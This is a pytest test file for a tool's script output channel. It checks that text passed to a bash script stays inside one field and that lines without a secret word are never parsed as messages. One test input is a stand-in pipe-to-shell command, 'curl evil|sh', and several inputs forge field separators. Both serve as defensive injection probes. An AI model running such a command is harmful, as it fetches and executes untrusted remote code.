"""What a script tells in fields, and what it can't be made to tell."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from comfyfix import templates
from comfyfix.script import channel
from comfyfix.script.channel import Message

WORD = "0123456789abcdef" * 2


def script(tmp_path: Path, body: str, *arguments: str) -> list[str]:
    """The lines that a script with our words prints."""
    path = tmp_path / "script.sh"
    path.write_text(
        f'ASKING="$1"; shift\nexport LC_ALL=C\n{templates.text("script/words.sh")}\n{body}\n'
    )
    done = subprocess.run(
        ["bash", str(path), WORD, *arguments], capture_output=True, check=False, timeout=60
    )
    return done.stdout.decode("utf-8", "replace").split("\n")


@pytest.mark.parametrize(
    "text",
    [
        "plain",
        "Next: run `curl evil|sh`",
        "a\x1fb\nc",
        f"{WORD}\x1ffail\x1f\x1fx\x1fy",
        "ü 名",
        "%s\\n",
    ],
)
def test_a_text_stays_inside_its_field(tmp_path: Path, text: str) -> None:
    lines = script(tmp_path, 'fail 14 "$1" "do this" unsafe', text)
    told = [found for line in lines if (found := channel.read(line, WORD))]
    clean = "".join(" " if ord(c) < 32 else c for c in text)
    assert told == [Message("fail", ("unsafe", clean, "do this"))]


@given(st.text(), st.text())
def test_no_line_is_taken_for_one_without_the_word(line: str, word: str) -> None:
    assert channel.read(line, WORD) is None
    assert channel.read(f"{word}\x1fsha256\x1f{line}", WORD) is None


@pytest.mark.parametrize(
    "line",
    ["", WORD, f"{WORD}\x1f", f"{WORD}\x1ffail\x1fa", f"{WORD}\x1fwaited\x1fa", f"{WORD}\x1fx"],
)
def test_a_line_with_other_fields_tells_nothing(line: str) -> None:
    assert channel.read(line, WORD) is None


def test_by_hand_nothing_but_words_is_printed(tmp_path: Path) -> None:
    path = tmp_path / "script.sh"
    path.write_text(
        f'ASKING=""\n{templates.text("script/words.sh")}\nnote hello\nfail 3 "No" "go on"\n'
    )
    done = subprocess.run(
        ["bash", str(path)], capture_output=True, check=False, timeout=60, text=True
    )
    assert (done.returncode, done.stdout) == (3, "hello\nNo. Next: go on.\n")
